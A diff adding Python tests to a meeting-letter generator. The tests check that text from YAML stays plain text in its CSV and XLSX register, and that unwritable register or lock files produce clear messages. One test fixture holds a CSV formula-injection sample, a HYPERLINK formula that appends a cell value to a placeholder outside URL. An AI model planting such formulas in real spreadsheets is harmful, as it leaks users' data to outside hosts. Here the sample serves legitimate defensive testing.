@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import re
+import zipfile
+from pathlib import Path
 import subprocess
 import sys
 from datetime import date
@@ -124,3 +126,99 @@ def test_changing_an_assigned_number_keeps_the_old_one_given(tmp_path):
         again = reg.assign("y/undangan", date(2025, 1, 3), "Undangan", "y", "surat undangan", lambda u: f"N/{u}")
     assert first == "N/1" and again == "N/901"
     assert {e.nomor for e in Register.load(tmp_path).entries.values()} == {"N/1", "N/900", "N/901"}
+
+
+# --- issue 11: text from YAML in the register stays text; an unwritable register is a message ------------
+
+FORMULAS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+62 812 0000", "-5 persen", "@dinsos_bll",
+            "'=sudah berkutip"]
+
+
+def test_register_text_from_yaml_never_becomes_a_formula(project):
+    import csv
+    import io
+
+    import openpyxl
+
+    replace_in(project / "agendas/2023-12-14-rakor-tkpk-buleleng.yaml", "hal: Undangan Rapat Koordinasi TKPK",
+               f"hal: '{FORMULAS[0]}'")
+    _without_urut(project)
+    replace_in(project / SERIES_FILE, "hal: Undangan Sosialisasi DTSEN", f'hal: "{FORMULAS[1]}"')
+    r = _build(project)
+    assert r.exit_code == 0, r.output
+    rows = list(csv.DictReader(io.StringIO((project / REGISTER_NAME).read_text(encoding="utf-8"))))
+    hal = {row["rapat"]: row["hal"] for row in rows}
+    assert hal["rakor-buleleng-2023-12-14"] == "'" + FORMULAS[0]
+    assert hal[SERIES] == "'" + FORMULAS[1]
+    for row in rows:  # no field of the CSV starts like a formula
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
+    # read back as written in YAML: the same numbers again, the file unchanged by a second build
+    before = (project / REGISTER_NAME).read_bytes()
+    assert Register.load(project).entries["rakor-buleleng-2023-12-14/undangan"].hal == FORMULAS[0]
+    assert _build(project, "--paksa-ulang").exit_code == 0
+    assert (project / REGISTER_NAME).read_bytes() == before
+    # the XLSX of `rapatgen nomor`: the cell holds the text itself, as text
+    r = CliRunner().invoke(main, ["nomor", "--xlsx", str(project / "buku.xlsx"), "--proyek", str(project)])
+    assert r.exit_code == 0, r.output
+    cells = [c for row in openpyxl.load_workbook(project / "buku.xlsx").active.iter_rows() for c in row]
+    shown = {c.value: c for c in cells if isinstance(c.value, str)}
+    for text in FORMULAS[:2]:
+        assert shown[text].data_type == "s", text
+    with zipfile.ZipFile(project / "buku.xlsx") as z:
+        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
+
+
+def test_csv_protection_round_trips():
+    from rapatgen.cells import csv_safe, csv_unsafe
+
+    for text in FORMULAS + ["biasa", "'kutip", "''=dua", "", "=", "'", "\t=x"]:
+        assert csv_unsafe(csv_safe(text)) == text, text
+        assert not csv_safe(text).startswith(("=", "+", "-", "@", "\t", "\r")), text
+
+
+def test_unwritable_register_or_lock_is_a_message_not_a_traceback(project, monkeypatch):
+    import errno
+
+    import filelock
+
+    import rapatgen.write as w
+
+    _without_urut(project)
+    (project / (REGISTER_NAME + ".lock")).mkdir()  # a folder where the lock file belongs
+    r = _build(project, SERIES)
+    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
+    assert f"{REGISTER_NAME}.lock adalah sebuah folder" in r.output, r.output
+    (project / (REGISTER_NAME + ".lock")).rmdir()
+
+    real_acquire = filelock.FileLock.acquire
+
+    def denied(self, *args, **kwargs):
+        if self.lock_file.endswith(REGISTER_NAME + ".lock"):
+            raise PermissionError(errno.EACCES, "Permission denied")
+        return real_acquire(self, *args, **kwargs)
+
+    monkeypatch.setattr(filelock.FileLock, "acquire", denied)
+    r = _build(project, SERIES)
+    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
+    assert f"{REGISTER_NAME}.lock tidak dapat ditulis: tidak ada izin menulis" in r.output, r.output
+    monkeypatch.undo()
+
+    real_mkstemp = w.tempfile.mkstemp
+
+    def read_only_project(*args, **kwargs):
+        if Path(kwargs.get("dir", "")) == project:
+            raise PermissionError(errno.EACCES, "Permission denied")
+        return real_mkstemp(*args, **kwargs)
+
+    monkeypatch.setattr(w.tempfile, "mkstemp", read_only_project)
+    r = _build(project, SERIES)
+    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
+    assert f"{REGISTER_NAME} tidak dapat ditulis: tidak ada izin menulis" in r.output, r.output
+    assert not (project / REGISTER_NAME).exists() and not list(project.glob(f".{REGISTER_NAME}*"))
+    monkeypatch.undo()
+
+    (project / REGISTER_NAME).mkdir()  # a folder where the register belongs
+    for args in (["build", "--per", "2025-03-01", "--only", "undangan", "--format", "docx", SERIES], ["nomor"]):
+        r = CliRunner().invoke(main, [*args, "--proyek", str(project)])
+        assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
+        assert f"{REGISTER_NAME} adalah sebuah folder" in r.output, r.output
